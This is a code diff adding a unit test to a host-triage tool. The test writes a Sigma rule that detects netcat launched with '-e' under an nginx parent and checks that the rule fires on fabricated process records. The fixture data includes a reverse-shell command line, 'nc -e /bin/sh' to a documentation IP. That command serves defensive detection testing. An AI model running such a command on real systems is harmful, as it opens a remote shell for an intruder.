@@ -1,4 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
+#include "triage/host/host_checks.h"
+
 #include "tests/unit/triage/made_scene.h"
 
 #include <gmock/gmock.h>
@@ -183,6 +185,42 @@ TEST(HostChecks, AllProcessesOfOneProgramAreOneFindingThatNamesThem) {
   const auto findings = findings_of(*checks, made);
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_THAT(findings[0].why, HasSubstr("12, 13, 14"));
+}
+
+TEST(HostChecks, PublicRulesForProcessesMeetTheRecordsOfAHost) {
+  const auto folder =
+      std::filesystem::temp_directory_path() / ("firsthour-entries-" + std::to_string(::getpid()));
+  std::filesystem::create_directories(folder);
+  std::ofstream{folder / "rule.yml"}
+      << "title: Netcat\nlogsource: {product: linux, category: process_creation}\n"
+         "detection:\n  s: {Image|endswith: /nc, CommandLine|contains: ' -e '}\n"
+         "  parent: {ParentImage|endswith: /nginx}\n  condition: s and parent\n";
+  MadeCase made;
+  made.add_records(
+      "host.process",
+      R"({"type":"host.process","process.pid":8,"process.name":"nginx","process.executable":"/usr/sbin/nginx"})"
+      "\n"
+      R"({"type":"host.process","process.pid":9,"process.parent.pid":8,"process.executable":"/usr/bin/nc","process.command_line":"nc -e /bin/sh 203.0.113.9 1"})"
+      "\n");
+  auto checks = HostChecks::load({folder.string()});
+  ASSERT_TRUE(checks);
+  EXPECT_TRUE((*checks)->rule_problems().empty()) << "such a rule is for logs, and no mistake";
+  EXPECT_TRUE(findings_of(**checks, made).empty());
+  const auto rules =
+      sigma::SigmaRules::load({{folder.string()}, {FIRSTHOUR_SOURCE_DIR "/triage/sigma/mappings"}, ""}, {});
+  std::filesystem::remove_all(folder);
+  ASSERT_TRUE(rules);
+  const auto& hosts = dynamic_cast<const SigmaHostChecks&>(**checks);
+  const RecordsAsEntries entries = hosts.as_entries(**rules);
+  EXPECT_EQ(entries.records, 2u);
+  sigma::SigmaRun run{**rules};
+  ASSERT_TRUE(run.hear(entries.told));
+  const auto outcome = run.finish();
+  ASSERT_EQ(outcome.findings.size(), 1u);
+  EXPECT_EQ(outcome.findings[0].rule, "Netcat");
+  EXPECT_EQ(
+      outcome.findings[0].why,
+      "Netcat: Image: /usr/bin/nc; CommandLine: nc -e /bin/sh 203.0.113.9 1; ParentImage: /usr/sbin/nginx");
 }
 
 TEST(HostChecks, AMissingFolderIsAnError) {
